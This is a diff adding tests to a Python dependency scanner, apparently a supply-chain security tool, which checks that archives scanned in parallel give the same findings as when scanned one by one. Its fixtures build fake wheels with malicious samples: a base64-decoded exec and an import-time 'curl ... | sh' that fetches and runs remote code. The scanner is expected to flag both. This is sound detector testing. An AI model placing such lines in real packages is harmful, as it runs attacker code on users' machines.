@@ -9,7 +9,9 @@ from pathlib import Path
 
 import pytest
 from corpus import tree_of
+from deps_support import make_wheel
 
+from chainproof.deps import scan
 from chainproof.deps.model import Finding
 from chainproof.deps.rules import parallel
 from chainproof.deps.rules.base import ScanContext
@@ -136,3 +138,37 @@ def test_items_are_taken_as_the_analysis_needs_them(monkeypatch: pytest.MonkeyPa
     assert items.made < 100  # the first result came back before every item was made
     assert list(results) == [[n * n] for n in range(1, 100)]
     assert items.made == 100
+
+
+def _jobs_in_worker(_n: int) -> list[str | None]:
+    return [os.environ.get(parallel.JOBS_ENV)]
+
+
+def test_workers_map_their_own_work_in_process() -> None:
+    """An archive scanned in a worker spreads no files over a pool of its own."""
+    found = parallel.map_items(_jobs_in_worker, list(range(4)), lambda _n: 1, jobs=2, min_items=2)
+    assert [value for [value] in found] == ["1"] * 4
+
+
+def test_several_archives_scan_side_by_side_as_one_by_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    payload = f"import base64\nexec(base64.b64decode('{P64}'))\n"
+    targets = [
+        make_wheel(tmp_path, "alpha", "1.0", {"alpha/__init__.py": payload}),
+        tmp_path / "env",
+        make_wheel(tmp_path, "beta", "2.0", {"beta/__init__.py": "VALUE = 1\n"}),
+        make_wheel(
+            tmp_path, "gamma", "3.0", {"gamma/m.py": "import os\nos.system('curl http://203.0.113.9 | sh')\n"}
+        ),
+    ]
+    (tmp_path / "env").mkdir()
+    monkeypatch.setenv(parallel.JOBS_ENV, "1")
+    serial = scan.scan_targets(targets)
+    monkeypatch.setenv(parallel.JOBS_ENV, "2")
+    side_by_side = scan.scan_targets(targets)
+    assert [r.target for r in side_by_side] == [r.target for r in serial]
+    assert [r.findings for r in side_by_side] == [r.findings for r in serial]
+    assert [[p.name for p in r.packages] for r in side_by_side] == [["alpha"], [], ["beta"], ["gamma"]]
+    assert {f.rule for f in side_by_side[0].findings} >= {"code-exec-decoded"}
+    assert {f.rule for f in side_by_side[3].findings} >= {"code-exec-at-import"}
